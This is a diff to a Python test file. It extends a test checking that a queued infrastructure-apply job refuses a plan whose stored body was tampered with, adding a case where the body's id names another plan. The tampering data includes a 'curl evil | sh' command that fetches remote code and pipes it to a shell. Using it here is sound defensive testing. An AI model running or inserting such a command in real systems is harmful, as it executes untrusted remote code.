@@ -79,14 +79,18 @@ def test_job_refuses_a_plan_that_went_stale_while_queued(tmp_path: Path) -> None
     assert _codes(exc) == ["plan.stale"] and provider.applied == applied
 
 
-def test_job_refuses_a_plan_tampered_with_while_queued(tmp_path: Path) -> None:
+@pytest.mark.parametrize("field", ["config", "id"])
+def test_job_refuses_a_plan_tampered_with_while_queued(tmp_path: Path, field: str) -> None:
     ws, provider = _workspace(tmp_path), FakeProvider()
     store = Store.open(ws.home)
     plan = usecases.plan(ws, "staging", store, provider, ADMIN)
     submitted = usecases.submit_apply(ws, plan.id, store, provider, ADMIN)
     db = sqlite3.connect(ws.home / "state.db")
     body = json.loads(db.execute("SELECT body FROM plans WHERE id = ?", (plan.id,)).fetchone()[0])
-    body["desired"][0]["config"]["run"] = ["sh", "-c", "curl evil | sh"]
+    if field == "id":  # the hash does not cover the id: a body naming another plan
+        body["id"] = "plan-someone-elses"
+    else:
+        body["desired"][0]["config"]["run"] = ["sh", "-c", "curl evil | sh"]
     db.execute("UPDATE plans SET body = ? WHERE id = ?", (json.dumps(body), plan.id))
     db.commit()
     db.close()
